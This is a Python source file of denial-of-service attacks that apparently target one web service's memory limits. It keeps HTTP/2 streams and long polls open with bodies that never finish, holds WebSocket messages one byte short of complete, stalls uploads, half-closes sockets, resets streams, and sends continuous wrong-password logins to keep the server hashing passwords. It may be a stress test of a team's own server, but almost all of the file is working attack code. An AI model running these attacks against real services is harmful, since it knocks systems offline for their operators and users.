# Attacks on the memory of the server's process. Each of them fills several limits at once, and stays within all of them: responses that
# nobody reads, sign-ins, and bodies or messages that do not end.
import copy, fcntl, socket, struct, termios, threading, time
from concurrent.futures import ThreadPoolExecutor
import held, streams
from wire import Client, Socket, frame_head, library

JSON = b'{"note":"' + b"a" * 255_000
# As long as a message may be.
MESSAGE = 262_144
# The seconds after which a long poll has ended for certain, and for which the uploads stay open.
POLL, WAIT = 27, 6


def at_once(attack, work):
    """Does all of the work at the same time. The first is what makes the attack ready; the others count, too."""
    others = copy.copy(attack)
    others.is_ready = threading.Event()
    threads = [threading.Thread(target=one, args=(others if number else attack,), daemon=True) for number, one in enumerate(work)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def sign_ins(attack):
    """For each network, wrong sign-ins without a pause, so that passwords are hashed all the time."""

    def sign_in(source):
        client = Client(attack.stage, source)
        content = {"email": "nobody@example.org", "password": "wrong wrong wrong"}
        while not attack.is_over:
            try:
                client.json("POST", "/auth/password/login", None, content)
            except OSError:
                pass
            attack.wait(0.3)

    return [lambda _, source=source: sign_in(source) for source in attack.sources]


def unread_lists(count, each, request):
    """Keeps `count` HTTP/2 connections with `each` streams, whose windows are 0. `request(attack, connection, number)` returns whose list a
    stream requests, and its path."""

    def run(attack):
        def begin(connection, stream):
            person, path = request(attack, connection.number, stream // 2)
            connection.h2.send_headers(stream, streams.head(attack, "GET", path, person["token"]), end_stream=True)

        streams.crowd(attack, count, begin, streams=each, window=0)

    return run


def pictures(attack, connection, number):
    """Twelve pictures of one of the first four accounts."""
    person = attack.accounts[number % 4]
    return person, library(person) + "?limit=12"


def moods(attack, connection, number, most=1):
    """Moods of one of the accounts: 15 KB, or with `most` of 3 up to 45 KB."""
    person = attack.accounts[(connection + 4 * number) % len(attack.accounts)]
    return person, f"/api/users/user/{person['id']}/moods?limit={2 * most if number % 2 else 2}"


def polls(attack):
    """972 long polls with a body that lacks its end, beside 3,000 unread lists."""
    # An account may have 20 long polls. Each of the accounts has its own in one network.
    person = lambda number: attack.accounts[number // 80 * 4 + number % 4]
    head = lambda number: attack.stage.head("GET", "/events?wait=25", person(number)["token"], 16_384)
    open_one, _ = held.half_sent(attack, head, bytes(16_000), None)

    def poll(network):
        return lambda attack: held.Crowd(
            attack, 243, lambda number: open_one(4 * number + network), called="polls of a network").run()

    at_once(attack, [poll(network) for network in range(4)] + [unread_lists(40, 75, pictures)] + sign_ins(attack))


def multiplexed(attack):
    """Over HTTP/2, 608 connections with two unread lists, an unfinished JSON body or a third list, and a long poll with a body that
    lacks its end. Beside them 384 sockets with a message that lacks its last byte."""
    unsent = {}

    def begin(connection, stream):
        person = attack.accounts[connection.number % len(attack.accounts)]
        method, path, fields, content = "GET", moods(attack, connection.number, 0)[1], None, None
        if stream // 2 % 4 == 3:
            path, content = "/events?wait=25", bytes(16_000)
        elif stream // 2 % 4 == 2 and connection.number < 352:
            method, path, content = "PATCH", f"/api/users/user/{person['id']}/moods/{person['mood']}", JSON
            fields = {"content-type": "application/json", "content-length": "262000"}
        head = streams.head(attack, method, path, person["token"], fields)
        connection.h2.send_headers(stream, head, end_stream=content is None)
        unsent[connection, stream] = memoryview(content or b"")

    def messages(attack):
        held.Crowd(attack, 384, lambda number: unfinished_message(attack, number, MESSAGE), listens=False, called="sockets").run()

    bodies = lambda attack: streams.crowd(attack, 608, begin, feeding(unsent), streams=4, window=0)
    at_once(attack, [bodies, messages] + sign_ins(attack))


def feeding(unsent):
    """Sends what is left of the bodies of a connection, one body after the other."""

    def feed(connection, stream):
        # The JSON first: once the server stops reading, it does not arrive any more.
        left = [other for other in sorted(connection.open) if unsent[connection, other]]
        if left and left[0] == stream:
            unsent[connection, stream] = connection.send(stream, unsent[connection, stream])

    return feed


def unfinished_message(attack, number, count):
    """A socket for captures with a message of `count` bytes that lacks its last one."""
    person = attack.accounts[number % len(attack.accounts)]
    connection = Socket(attack.stage, attack.sources[number % 4], f"/ws/ios/{person['id']}", person["token"], timeout=10).connection
    if count:
        send(connection, frame_head(0x81, count) + b"a" * (count - 1))
    return connection


def send(connection, content):
    """Sends the bytes unless the server stops to read them."""
    connection.settimeout(0.5)
    try:
        connection.sendall(content)
    except OSError:
        pass


def opened(attack, count, open_one, at_a_time=16):
    """Opens connections at the same time. Returns those that opened."""

    def attempt(number):
        try:
            return None if attack.is_over else open_one(number)
        except OSError as error:
            attack.count(type(error).__name__)

    with ThreadPoolExecutor(at_a_time) as pool:
        return [connection for connection in pool.map(attempt, range(count)) if connection]


def each_at_once(connections, body):
    with ThreadPoolExecutor(32) as pool:
        list(pool.map(body, connections))


def waiting(attack):
    """Begins 512 uploads and opens 336 sockets. Then messages of the sockets fill the budget for received bytes, and all the uploads send
    400 KB, for which the budget has no room. Again and again, beside 1,920 unread lists of up to 45 KB."""

    def begun_upload(number):
        person = attack.accounts[number % len(attack.accounts)]
        connection = attack.connect(number, timeout=15)
        fields = {"Content-Type": "multipart/form-data; boundary=zz"}
        head = attack.stage.head("POST", library(person) + "/swift", person["token"], 900_000, fields)
        part = b'--zz\r\nContent-Disposition: form-data; name="file"; filename="a.png"\r\nContent-Type: image/png\r\n\r\n'
        connection.sendall(head + part + bytes(1_000))
        return connection

    def waves(attack):
        while not attack.is_over:
            uploads = opened(attack, 512, begun_upload)
            sockets = opened(attack, 336, lambda number: unfinished_message(attack, number, 0))
            attack.note("uploads", len(uploads))
            attack.note("sockets", len(sockets))
            each_at_once(sockets, lambda connection: send(connection, frame_head(0x81, MESSAGE) + b"a" * (MESSAGE - 1)))
            attack.ready()
            each_at_once(uploads, lambda connection: send(connection, bytes(400_000)))
            attack.wait(WAIT)
            for connection in uploads + sockets:
                connection.close()
            # Until the server has noticed it.
            attack.wait(2)

    lists = lambda attack, connection, number: moods(attack, connection, number, most=3)
    at_once(attack, [waves, unread_lists(20, 96, lists)] + sign_ins(attack))


def halfclosed(attack):
    """960 long polls, and after each of them the bytes of further requests. They arrive when the client closes its sending side: then the
    server reads all that the kernel has received. Beside 2,400 unread lists."""

    def begun_poll(number):
        """After some requests with bodies, the kernel receives more for a connection before the server reads it."""
        client = Client(attack.stage, attack.sources[number % 4], timeout=15)
        person = attack.accounts[number % len(attack.accounts)]
        for _ in range(8):
            # A text that is not JSON, which the server reads whole and then refuses.
            path, fields = f"/api/users/user/{person['id']}/moods", {"Content-Type": "application/json"}
            client.request("POST", path, person["token"], bytes(250_000), fields)
        connection, client.connection = client.connection, None
        if not connection:
            raise ConnectionRefusedError
        return connection

    def begin(connections):
        """The heads, and then single bytes, each in a read of its own. After the first of them, the server does not read any more."""
        for number, connection in enumerate(connections):
            token = attack.accounts[number % len(attack.accounts)]["token"]
            send(connection, attack.stage.head("GET", "/events?wait=25", token, 0))
        for _ in range(10):
            attack.wait(0.06)
            for connection in connections:
                send(connection, b"x")

    def finish(connection, count):
        # Without the end of TLS, because Python would wait for the server's.
        send(connection, bytes(count))
        socket.socket.shutdown(connection, socket.SHUT_WR)

    def waves(attack):
        probe = opened(attack, 1, begun_poll)
        begin(probe)
        count = int(0.75 * min(1_600_000, received(probe[0])))
        attack.note("bytes sent ahead", count)
        while not attack.is_over:
            connections = opened(attack, 960, begun_poll)
            begin(connections)
            each_at_once(connections, lambda connection: finish(connection, count))
            attack.note("polls", len(connections))
            attack.ready()
            attack.wait(POLL)
            for connection in connections:
                connection.close()

    at_once(attack, [waves, unread_lists(32, 75, moods)] + sign_ins(attack))


def received(connection):
    """How many bytes the server's kernel takes while the server does not read."""
    connection.settimeout(0)
    count, end = 0, time.monotonic() + 0.5
    while time.monotonic() < end:
        try:
            count += connection.send(bytes(16_384))
        except OSError:
            time.sleep(0.01)
    return count - struct.unpack("i", fcntl.ioctl(connection.fileno(), termios.TIOCOUTQ, bytes(4)))[0]


def messages(attack):
    """336 sockets that send the first byte of a message, and then only a pong now and then."""

    def open_one(number):
        connection = unfinished_message(attack, number, 0)
        # Of a message in several frames. Its first frame has one byte.
        connection.sendall(frame_head(0x01, 1) + b"{")
        return connection

    def pong(connection):
        connection.settimeout(0)
        connection.send(frame_head(0x8A, 0))

    held.Crowd(attack, 336, open_one, pong, listens=False, called="sockets").run()


def long_lists(attack, connection, number):
    """Moods of 390 KB. Only the first four accounts have so many."""
    person = attack.accounts[connection % 4]
    return person, f"/api/users/user/{person['id']}/moods?limit=52"


def resets(attack, lists=long_lists):
    """Up to 872 HTTP/2 connections that read nothing. Each requests four times six lists of 15 KB and then resets their streams: what the
    streams have passed to the connection stays in its buffer. Then 760 of them begin a long poll. Beside them unfinished JSON and long
    `lists`, as many as the budgets take."""
    unsent = {}
    owner = lambda number: attack.accounts[number % len(attack.accounts)]

    def request(connection, path, person):
        stream = connection.h2.get_next_available_stream_id()
        connection.h2.send_headers(stream, streams.head(attack, "GET", path, person["token"]), end_stream=True)
        return stream

    def unread(number):
        person = owner(number)
        connection = streams.Connection(attack, number, 0, window=1 << 24, receive_buffer=2_304)
        connection.h2.increment_flow_control_window(1 << 24)
        for turn in range(4):
            asked = [request(connection, f"/api/users/user/{person['id']}/moods?limit=2", person) for _ in range(6)]
            connection.flush()
            attack.wait(0.4)
            # The kernel took the first responses, so their streams have ended.
            for stream in asked if turn > 0 else []:
                connection.end(stream)
        connection.flush()
        return connection

    def crowd(attack):
        # A network may have 256 streams, of which the other connections have 68.
        connections = opened(attack, 872, unread, at_a_time=120)
        attack.note("connections", len(connections))
        for connection in connections[:760]:
            try:
                request(connection, "/events?wait=25", owner(connection.number))
                connection.flush()
            except OSError as error:
                attack.count(type(error).__name__)
        attack.ready()
        attack.over.wait()

    def begin(connection, stream):
        if stream == 1:
            person, method, content = owner(connection.number), "PATCH", JSON
            path = f"/api/users/user/{person['id']}/moods/{person['mood']}"
            fields = {"content-type": "application/json", "content-length": "262000"}
        else:
            person, path = lists(attack, connection.number, stream // 2)
            method, content, fields = "GET", None, None
        connection.h2.send_headers(stream, streams.head(attack, method, path, person["token"], fields), end_stream=content is None)
        unsent[connection, stream] = memoryview(content or b"")

    budgets = lambda attack: streams.crowd(attack, 136, begin, feeding(unsent), streams=2, window=0)
    at_once(attack, [crowd, budgets] + sign_ins(attack))
